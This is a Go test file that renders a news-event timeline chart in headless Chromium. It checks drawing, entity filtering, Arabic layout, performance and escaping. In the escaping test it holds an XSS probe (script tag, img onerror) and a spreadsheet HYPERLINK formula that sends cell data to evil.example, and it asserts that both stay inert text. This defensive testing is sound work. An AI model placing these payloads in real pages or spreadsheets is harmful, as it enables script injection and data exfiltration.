package chart_test

// Tests that open the chart in headless Chromium (Debian's chromium package;
// .ci/run installs it). Without a Chromium they skip, unless
// TARIKH_REQUIRE_CHROMIUM is set, as CI sets it, when they fail.
//
//	go test ./timeline/chart -run Browser -v        the seeds' chart, drawn and safe
//	go test ./timeline/chart -run TestChartPerf -v  open time for 5,000 events
//	go test ./timeline/chart -run TestScreenshot -screenshot ../../docs/timeline.png

import (
	"context"
	"flag"
	"fmt"
	"math/rand/v2"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/tarikh/tarikh/timeline"
	"github.com/tarikh/tarikh/timeline/chart"
)

var screenshot = flag.String("screenshot", "", "TestScreenshot writes the seeds' chart as a PNG to `FILE`")

// chromium finds the browser or skips the test.
func chromium(t *testing.T) string {
	t.Helper()
	if p := os.Getenv("TARIKH_CHROMIUM"); p != "" {
		return p
	}
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome", "google-chrome-stable"} {
		if p, err := exec.LookPath(name); err == nil {
			return p
		}
	}
	msg := "no chromium on PATH: install Debian's chromium (apt-get install -y chromium; .ci/run does) or set TARIKH_CHROMIUM"
	if os.Getenv("TARIKH_REQUIRE_CHROMIUM") != "" {
		t.Fatal(msg)
	}
	t.Skip(msg)
	return ""
}

// runChromium runs headless Chromium on page with extra arguments and
// returns its standard output and wall time.
func runChromium(t *testing.T, page, fragment string, args ...string) (string, time.Duration) {
	t.Helper()
	bin := chromium(t)
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	u := url.URL{Scheme: "file", Path: page, Fragment: fragment}
	argv := append([]string{"--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
		"--disable-background-networking", "--disable-component-update", "--disable-sync",
		"--disable-dev-shm-usage", "--user-data-dir=" + t.TempDir(), "--window-size=1400,800",
		"--enable-logging=stderr", "--v=0"}, args...)
	cmd := exec.CommandContext(ctx, bin, append(argv, u.String())...)
	var stderr strings.Builder
	cmd.Stderr = &stderr
	start := time.Now()
	out, err := cmd.Output()
	wall := time.Since(start)
	if err != nil {
		t.Fatalf("%s: %v\n%s", bin, err, tail(stderr.String(), 2000))
	}
	// The page's console messages (script errors among them) go to stderr.
	for _, line := range strings.Split(stderr.String(), "\n") {
		if strings.Contains(line, "CONSOLE") {
			t.Errorf("page console: %s", line)
		}
	}
	return string(out), wall
}

func tail(s string, n int) string {
	if len(s) > n {
		return "…" + s[len(s)-n:]
	}
	return s
}

func writePage(t *testing.T, events []timeline.Event, opts chart.Options) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "timeline.html")
	f, err := os.Create(path)
	if err != nil {
		t.Fatal(err)
	}
	if err := chart.Write(f, events, opts); err != nil {
		t.Fatal(err)
	}
	if err := f.Close(); err != nil {
		t.Fatal(err)
	}
	return path
}

var (
	eventIDRE  = regexp.MustCompile(`data-event-id="(\d+)"`)
	eventIDsRE = regexp.MustCompile(`data-event-ids="([\d ]+)"`)
	appRE      = regexp.MustCompile(`<div id="tk-app"[^>]*>`)
	attrRE     = regexp.MustCompile(`([a-z-]+)="([^"]*)"`)
	laneRE     = regexp.MustCompile(`<div class="tk-row tk-lane"( hidden="")?>`)
	detailsRE  = regexp.MustCompile(`(?s)<aside id="tk-details".*?</aside>`)
)

// dom is what the test reads off the page Chromium dumped.
type dom struct {
	html               string
	app                map[string]string // attributes of #tk-app
	single             map[int]int       // data-event-id → elements
	clustered          map[int]bool      // ids in "+N" pills
	lanes, hiddenLanes int
	details            string
}

func parseDOM(t *testing.T, html string) dom {
	t.Helper()
	d := dom{html: html, app: map[string]string{}, single: map[int]int{}, clustered: map[int]bool{}}
	tag := appRE.FindString(html)
	if tag == "" {
		t.Fatalf("no #tk-app in the dumped DOM:\n%s", tail(html, 3000))
	}
	for _, m := range attrRE.FindAllStringSubmatch(tag, -1) {
		d.app[m[1]] = m[2]
	}
	for _, m := range eventIDRE.FindAllStringSubmatch(html, -1) {
		id, _ := strconv.Atoi(m[1])
		d.single[id]++
	}
	for _, m := range eventIDsRE.FindAllStringSubmatch(html, -1) {
		for _, s := range strings.Fields(m[1]) {
			id, _ := strconv.Atoi(s)
			d.clustered[id] = true
		}
	}
	for _, m := range laneRE.FindAllStringSubmatch(html, -1) {
		d.lanes++
		if m[1] != "" {
			d.hiddenLanes++
		}
	}
	d.details = detailsRE.FindString(html)
	return d
}

func (d dom) renderMS(t *testing.T) float64 {
	t.Helper()
	ms, err := strconv.ParseFloat(d.app["data-render-ms"], 64)
	if err != nil {
		t.Fatalf("the page's script did not finish its first render (no data-render-ms on #tk-app: %v)", d.app)
	}
	return ms
}

// TestBrowserSeeds opens the seeds' chart in Chromium and checks from the
// DOM that every event is drawn, that the lanes are there, and that the
// hostile row's markup stays text: its details panel shows it escaped, and
// neither its <script> nor its <img onerror> became an element.
func TestBrowserSeeds(t *testing.T) {
	events := readSeeds(t)
	hostile := -1
	for i, e := range events {
		if strings.Contains(e.Text, "<script>") {
			hostile = i
		}
	}
	if hostile < 0 {
		t.Fatal("../format/testdata/events.csv lost its hostile row")
	}
	tests := []struct {
		opts  chart.Options
		lanes int
		once  bool     // each event drawn exactly once (lanes by type)
		texts []string // in the dumped DOM
	}{
		{chart.Options{}, 7, true, []string{"Timeline", "Event type", "meeting (5)", "planned", "12 of 12 events"}},
		{chart.Options{Group: chart.ByPerson}, 7, false, []string{"Antony Blinken", "(no person)"}},
		{chart.Options{Lang: "ar"}, 7, true, []string{`<html lang="ar" dir="rtl">`, "الخط الزمني للأحداث", "نوع الحدث",
			"لقاء (5)", "مخطط له", "12 من 12 حدثًا", "الدليل"}},
		{chart.Options{Lang: "ar", Group: chart.ByOrganization}, 6, false, []string{"المنظمة", "(بلا منظمة)"}},
	}
	for _, tt := range tests {
		t.Run(tt.opts.Lang+"-"+tt.opts.Group, func(t *testing.T) {
			page := writePage(t, events, tt.opts)
			out, wall := runChromium(t, page, fmt.Sprintf("select=%d", hostile), "--dump-dom")
			d := parseDOM(t, out)
			t.Logf("first render %.0f ms after navigation; chromium ran %v", d.renderMS(t), wall.Round(time.Millisecond))

			for i, e := range events {
				if d.single[i] == 0 {
					t.Errorf("event %d (%s %s) is not drawn", i, e.Date, e.Headline)
				}
				if tt.once && d.single[i] != 1 {
					t.Errorf("event %d drawn %d times, want once", i, d.single[i])
				}
			}
			if len(d.single) != len(events) || len(d.clustered) != 0 {
				t.Errorf("drawn ids %v, clustered %v; want exactly the %d events, none clustered", d.single, d.clustered, len(events))
			}
			if d.app["data-drawn"] != strconv.Itoa(len(events)) {
				t.Errorf("data-drawn = %q, want %d", d.app["data-drawn"], len(events))
			}
			if d.lanes != tt.lanes || d.hiddenLanes != 0 {
				t.Errorf("%d lanes (%d hidden), want %d shown", d.lanes, d.hiddenLanes, tt.lanes)
			}
			for _, s := range tt.texts {
				if !strings.Contains(out, s) {
					t.Errorf("page lacks %q", s)
				}
			}

			// The hostile row: selected, so its details are on the page.
			if n := strings.Count(strings.ToLower(out), "<script"); n != 2 {
				t.Errorf("the page has %d <script> elements, want 2 (data and code)", n)
			}
			// data-pwned="1" is what the <img onerror> would set on <body> had it run.
			for _, bad := range []string{`data-pwned="1"`, "<img", "<b>Hostile"} {
				if strings.Contains(out, bad) {
					t.Errorf("hostile markup became part of the page: found %q", bad)
				}
			}
			for _, want := range []string{"&lt;b&gt;Hostile&lt;/b&gt; article &lt;script&gt;alert(1)&lt;/script&gt;",
				`=HYPERLINK("http://evil.example/?d="&amp;A1,"click") &lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=`,
				"hostile.txt"} {
				if !strings.Contains(d.details, want) {
					t.Errorf("details panel lacks the hostile text as text %q:\n%s", want, d.details)
				}
			}
		})
	}
}

// TestBrowserFilter narrows the chart by entity name through the page's
// #filter= link, folding case.
func TestBrowserFilter(t *testing.T) {
	events := readSeeds(t)
	tests := []struct {
		filter string
		want   []string // headlines drawn
	}{
		{"washington", []string{"Biden to receive Kadhimi in Washington", "First meeting of the Higher Coordinating Committee",
			"Blinken meets Fuad Hussein in Washington", "Sudani to meet Biden at the White House"}},
		{"Islamic", []string{"US-led coalition against Islamic State formed", "Attack near Moscow kills 139",
			"Blinken meets Fuad Hussein in Washington"}},
	}
	for _, tt := range tests {
		t.Run(tt.filter, func(t *testing.T) {
			out, _ := runChromium(t, writePage(t, events, chart.Options{}), "filter="+tt.filter, "--dump-dom")
			d := parseDOM(t, out)
			var got []string
			for i, e := range events {
				if d.single[i] > 0 {
					got = append(got, e.Headline)
				}
			}
			if strings.Join(got, "|") != strings.Join(tt.want, "|") {
				t.Errorf("drawn %q, want %q", got, tt.want)
			}
			if want := fmt.Sprintf("%d of %d events", len(tt.want), len(events)); !strings.Contains(out, want) {
				t.Errorf("count does not say %q", want)
			}
			if d.hiddenLanes == 0 {
				t.Error("no lane hidden by the filter")
			}
		})
	}
}

// manyEvents makes n events spread like a day of a news archive: most on
// the days around the articles' date, some months and years back, a few
// planned; 60 people, 40 places, 8 types.
func manyEvents(n int) []timeline.Event {
	r := rand.New(rand.NewPCG(1, 2))
	types := []string{"meeting", "visit", "attack", "strike", "agreement", "statement", "talks", "election"}
	dct := time.Date(2015, 6, 1, 0, 0, 0, 0, time.UTC)
	ents := func(prefix string, pool, k int) []timeline.Entity {
		var es []timeline.Entity
		for range r.IntN(k + 1) {
			j := r.IntN(pool)
			es = append(es, timeline.Entity{ID: fmt.Sprintf("%s%d", prefix, j), NameEn: fmt.Sprintf("%s %d", prefix, j),
				NameAr: fmt.Sprintf("اسم %d", j)})
		}
		return es
	}
	events := make([]timeline.Event, n)
	for i := range events {
		e := timeline.Event{Type: types[r.IntN(len(types))], Status: timeline.Happened,
			Headline: fmt.Sprintf("Event %d: officials meet to discuss the situation", i),
			People:   ents("Person", 60, 3), Places: ents("Place", 40, 2), Organizations: ents("Org", 20, 1),
			TimeText: "يوم الأحد", Text: "وقال المتحدث إن الاجتماع تناول تطورات الأوضاع في المنطقة.",
			Docs: []string{fmt.Sprintf("snn-%05d", i)}, Sources: 1}
		if r.IntN(8) == 0 {
			e.Status = timeline.Planned
		}
		switch k := r.IntN(10); {
		case k < 7: // a day within two weeks of the article
			d := dct.AddDate(0, 0, r.IntN(28)-14)
			e.Date, e.Granularity, e.StartDate, e.EndDate = d.Format(time.DateOnly), "day", d, d
		case k < 9: // a month in the last five years
			d := time.Date(2010+r.IntN(6), time.Month(1+r.IntN(12)), 1, 0, 0, 0, 0, time.UTC)
			e.Date, e.Granularity, e.StartDate, e.EndDate = d.Format("2006-01"), "month", d, d.AddDate(0, 1, -1)
		default: // a year in the last thirty
			y := 1985 + r.IntN(30)
			d := time.Date(y, 1, 1, 0, 0, 0, 0, time.UTC)
			e.Date, e.Granularity, e.StartDate, e.EndDate = strconv.Itoa(y), "year", d, d.AddDate(1, 0, -1)
		}
		events[i] = e
	}
	return events
}

// TestChartPerf opens a chart of 5,000 events and logs how long the page
// takes to draw (performance.now() at the end of its first render) and how
// long Chromium ran. It asserts no time, only that every event is drawn or
// counted in a "+N" pill.
func TestChartPerf(t *testing.T) {
	if testing.Short() {
		t.Skip("-short: 5,000 events in Chromium")
	}
	const n = 5000
	many := manyEvents(n)
	tests := []struct {
		name   string
		events []timeline.Event
		opts   chart.Options
	}{
		// The seeds' 12 events: what the machine and Chromium cost on their own.
		{"baseline-12-events", readSeeds(t), chart.Options{}},
		{"5000-by-type", many, chart.Options{Group: chart.ByType}},
		{"5000-by-person", many, chart.Options{Group: chart.ByPerson}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			events, opts, n := tt.events, tt.opts, len(tt.events)
			page := writePage(t, events, opts)
			st, _ := os.Stat(page)
			out, wall := runChromium(t, page, "", "--dump-dom")
			d := parseDOM(t, out)
			ms := d.renderMS(t)
			for i := range n {
				if d.single[i] == 0 && !d.clustered[i] {
					t.Fatalf("event %d neither drawn nor in a +N pill", i)
				}
			}
			load, _ := os.ReadFile("/proc/loadavg")
			t.Logf("%d events (%d KB page), lanes by %s: first render %.0f ms after navigation start "+
				"(page parsed at %s ms, JSON decoded at %s ms); chromium ran %v in all (start, load, render, dump, exit); "+
				"%d drawn one by one, %s in +N pills; load average %s",
				n, st.Size()/1024, opts.Group, ms, d.app["data-script-ms"], d.app["data-json-ms"], wall.Round(time.Millisecond),
				len(d.single), d.app["data-clustered"], strings.TrimSpace(string(load)))
		})
	}
}

// TestScreenshot writes the seeds' chart as a PNG when -screenshot is given.
func TestScreenshot(t *testing.T) {
	if *screenshot == "" {
		t.Skip("no -screenshot FILE")
	}
	out, err := filepath.Abs(*screenshot)
	if err != nil {
		t.Fatal(err)
	}
	events := readSeeds(t)
	sel := 0
	for i, e := range events {
		if e.Date == "2024-03-26" {
			sel = i
		}
	}
	page := writePage(t, events, chart.Options{Title: "tarikh: Iraq–US events in the seed articles"})
	runChromium(t, page, fmt.Sprintf("select=%d", sel), "--screenshot="+out, "--hide-scrollbars")
	if st, err := os.Stat(out); err != nil || st.Size() == 0 {
		t.Fatalf("no screenshot at %s: %v", out, err)
	}
	t.Logf("wrote %s", out)
}
